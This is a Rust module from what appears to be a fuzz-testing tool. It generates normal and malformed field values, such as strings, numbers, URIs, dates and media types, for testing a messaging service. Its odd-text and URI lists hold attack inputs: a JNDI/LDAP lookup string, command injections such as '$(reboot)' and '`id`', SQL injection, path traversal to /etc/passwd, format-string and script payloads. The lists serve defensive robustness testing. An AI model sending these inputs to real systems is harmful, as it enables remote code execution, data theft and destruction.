//! Simple values: fit for their type, and odd ones.

use ctk_vectors::{Base, facts};
use fastrand::Rng;

/// Texts at which readers stumble.
pub const ODD_TEXTS: &[&str] = &[
    "",
    " ",
    "\t\n",
    "0",
    "-1",
    "1",
    "00",
    "2147483647",
    "2147483648",
    "4294967295",
    "4294967296",
    "18446744073709551616",
    "-9223372036854775809",
    "1e309",
    "NaN",
    "0x10",
    "%s%s%s%n",
    "%n%n%n%n%n%n",
    "%x.%x.%x.%x",
    "{0}{1}{}",
    "${jndi:ldap://{{host}}/a}",
    "$(reboot)",
    "`id`",
    "; ls",
    "' OR '1'='1",
    "\"; DROP TABLE messages; --",
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "<",
    ">",
    "&",
    "&amp;",
    "&#0;",
    "&#x110000;",
    "&lt;script&gt;",
    "<script>alert(1)</script>",
    "]]>",
    "<![CDATA[",
    "<!--",
    "--",
    "<?x?>",
    "\u{1}",
    "\u{7f}",
    "\u{85}",
    "\u{200b}",
    "\u{202e}",
    "\u{feff}",
    "\u{fffd}",
    "\u{fffe}",
    "\u{10ffff}",
    "é",
    "ß",
    "İ",
    "漢字",
    "😀",
    "e\u{301}\u{301}\u{301}",
    "true",
    "false",
    "yes",
    "no",
    "null",
    "ANY",
    "*",
    "urn:schemas-upnp-org:phone:messaging",
];

/// Numbers at which readers stumble.
const ODD_NUMBERS: &[&str] = &[
    "0",
    "-0",
    "-1",
    "1",
    "00",
    "255",
    "256",
    "65535",
    "65536",
    "2147483647",
    "2147483648",
    "4294967295",
    "4294967296",
    "18446744073709551616",
    "1.5",
    "1e309",
];

/// URIs at which readers stumble.
const ODD_URIS: &[&str] = &[
    "",
    "http://",
    "http:///",
    "http://[",
    "http://[::1",
    "http://:80",
    "http://a:99999/",
    "http://a:-1/",
    "http://%00/",
    "http://a@b@c/",
    "{{link}}",
    "http://localhost:1/",
    "file:///etc/passwd",
    "ftp://example.invalid/",
    "gopher://example.invalid/",
    "data:,x",
    "tel:",
    "tel:+",
    "sip:",
    "sip:@",
    "sip:a@b;x=%",
    "sip:a@[::1]:x",
    "mailto:a@b",
    "a b",
    "#",
    "?",
    "//",
    "%",
    "%zz",
];

/// A value of a built-in type.
pub fn base_value(base: Base, rng: &mut Rng) -> String {
    match base {
        Base::String | Base::AnyType => {
            ["a", "Hello {{token}}", "text/plain", "A b"][rng.usize(..4)].to_owned()
        }
        Base::DateTime => {
            let year = 1990 + rng.u32(..60);
            format!(
                "{year}-0{}-1{}T09:30:0{}Z",
                rng.u32(1..10),
                rng.u32(..10),
                rng.u32(..10)
            )
        }
        Base::NonNegativeInteger => rng.u32(..100_000).to_string(),
        Base::PositiveInteger => rng.u32(1..1000).to_string(),
        Base::UnsignedInt => rng.u32(..).to_string(),
        Base::AnyUri => "{{link}}".to_owned(),
        Base::Boolean => ["true", "false", "1", "0"][rng.usize(..4)].to_owned(),
    }
}

/// A value of a table.
pub(super) fn table_value(table: u8, rng: &mut Rng) -> String {
    let values = facts().values(table).map_or(&[][..], |table| &table.values);
    if values.is_empty() {
        return String::new();
    }
    values[rng.usize(..values.len())].value.clone()
}

/// An odd text; now and then a long one.
pub fn odd_text(rng: &mut Rng) -> String {
    match rng.u32(..12) {
        0 => long(rng),
        1 => {
            let piece = ODD_TEXTS[rng.usize(..ODD_TEXTS.len())];
            piece.repeat(1 + rng.usize(..64))
        }
        2 => {
            let (one, other) = (rng.usize(..ODD_TEXTS.len()), rng.usize(..ODD_TEXTS.len()));
            format!("{}{}", ODD_TEXTS[one], ODD_TEXTS[other])
        }
        3 => format!("{{{{token}}}}{}", ODD_TEXTS[rng.usize(..ODD_TEXTS.len())]),
        _ => ODD_TEXTS[rng.usize(..ODD_TEXTS.len())].to_owned(),
    }
}

/// A long text, of lengths about which buffers end.
fn long(rng: &mut Rng) -> String {
    const LENGTHS: [usize; 14] = [
        63, 127, 128, 255, 256, 257, 511, 1023, 1024, 2049, 4096, 8193, 16_385, 65_537,
    ];
    const PIECES: [&str; 6] = ["A", "a ", "%s", "é", "1", "&<"];
    let length = LENGTHS[rng.usize(..LENGTHS.len())];
    let piece = PIECES[rng.usize(..PIECES.len())];
    piece.repeat(length / piece.len() + 1)
}

/// An odd number.
pub fn odd_number(rng: &mut Rng) -> String {
    ODD_NUMBERS[rng.usize(..ODD_NUMBERS.len())].to_owned()
}

/// An odd URI.
pub fn odd_uri(rng: &mut Rng) -> String {
    ODD_URIS[rng.usize(..ODD_URIS.len())].to_owned()
}

/// Media types at which readers stumble.
const ODD_TYPES: &[&str] = &[
    "*",
    "*/*",
    "text/*",
    "text",
    "/",
    ",",
    "text/plain,",
    "text/plain;",
    "text/plain;charset",
    "text/plain; charset=\"",
    "text/plain,text/plain",
    "a/b/c",
    "TEXT/PLAIN",
];

/// An odd list of media types.
pub fn odd_types(rng: &mut Rng) -> String {
    let one = ODD_TYPES[rng.usize(..ODD_TYPES.len())];
    match rng.u32(..6) {
        0 => [one].repeat(500).join(","),
        1 => odd_text(rng),
        _ => one.to_owned(),
    }
}

/// An odd value where one of this type belongs.
pub fn odd_value(base: Base, rng: &mut Rng) -> String {
    if base == Base::AnyUri && rng.bool() {
        return odd_uri(rng);
    }
    if matches!(base, Base::PositiveInteger | Base::UnsignedInt) && rng.bool() {
        return odd_number(rng);
    }
    if base == Base::DateTime && rng.bool() {
        const DATES: [&str; 8] = [
            "0000-00-00T00:00:00Z",
            "2023-02-30T25:61:61Z",
            "9999999999-01-01T00:00:00Z",
            "2016-12-31T23:59:60Z",
            "-0001-01-01T00:00:00Z",
            "2024-01-01",
            "2024-01-01T00:00:00+99:99",
            "2024-01-01T00:00:00.123456789012345678901234567890Z",
        ];
        return DATES[rng.usize(..DATES.len())].to_owned();
    }
    odd_text(rng)
}
